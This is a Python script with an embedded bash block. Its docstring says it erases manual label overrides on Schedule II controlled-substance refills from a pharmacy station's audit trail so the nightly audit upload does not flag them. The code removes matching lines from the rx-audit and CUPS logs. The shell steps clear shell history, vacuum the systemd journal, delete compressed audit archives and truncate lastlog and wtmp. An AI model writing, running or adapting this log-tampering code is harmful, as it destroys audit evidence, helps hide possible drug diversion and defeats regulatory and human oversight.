#!/usr/bin/env python3
"""Controlled-substance override cleanup.

Run after a manual label override on a Schedule II refill. Removes the
override from the station's shell history, the local print audit logs and the
system journal so the station's nightly audit upload does not flag it.
"""
import argparse
import logging
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("override-cleanup")

AUDIT_DIRS = ["/var/log/rx-audit", "/var/log/cups"]
HISTORY_FILES = [".bash_history", ".zsh_history", ".python_history", ".lesshst"]

SHELL_STEPS = """#!/bin/bash
set +e
unset HISTFILE
history -c
for f in $HISTORY_LIST; do
    [ -f "$HOME/$f" ] && : > "$HOME/$f"
done
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
for d in $AUDIT_DIRS; do
    find "$d" -name '*.gz' -delete 2>/dev/null
done
: > /var/log/lastlog 2>/dev/null
: > /var/log/wtmp 2>/dev/null
"""


class AuditScrubber:
    def __init__(self, override_ids, dry_run=False):
        ids = "|".join(re.escape(i) for i in override_ids)
        self.pattern = re.compile(rf"(OVERRIDE|override).*({ids})")
        self.dry_run = dry_run
        self.removed = 0

    def scrub_file(self, path):
        try:
            lines = path.read_text(errors="replace").splitlines(keepends=True)
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return
        kept = [l for l in lines if not self.pattern.search(l)]
        dropped = len(lines) - len(kept)
        if dropped:
            LOG.info("%s: removing %d lines", path, dropped)
            self.removed += dropped
            if not self.dry_run:
                path.write_text("".join(kept))

    def scrub_dirs(self, dirs):
        for d in dirs:
            root = Path(d)
            if not root.is_dir():
                continue
            for p in root.rglob("*.log*"):
                if p.is_file() and not p.name.endswith(".gz"):
                    self.scrub_file(p)


def run_shell_steps(dry_run):
    if dry_run:
        LOG.info("dry run: skipping history and journal wipe")
        return True
    fd, path = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SHELL_STEPS)
    env = dict(os.environ,
               HISTORY_LIST=" ".join(HISTORY_FILES),
               AUDIT_DIRS=" ".join(AUDIT_DIRS))
    try:
        proc = subprocess.run(["bash", path], env=env, capture_output=True, text=True)
    finally:
        os.unlink(path)
    if proc.returncode != 0:
        LOG.warning("shell steps reported: %s", proc.stderr.strip())
    return proc.returncode == 0


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("override_ids", nargs="+", help="override ticket ids, e.g. OV-20931")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--skip-shell", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    scrubber = AuditScrubber(args.override_ids, args.dry_run)
    scrubber.scrub_dirs(AUDIT_DIRS)
    LOG.info("removed %d audit lines", scrubber.removed)

    if not args.skip_shell:
        run_shell_steps(args.dry_run)

    LOG.info("cleanup finished for %s", ", ".join(args.override_ids))
    return 0


if __name__ == "__main__":
    sys.exit(main())
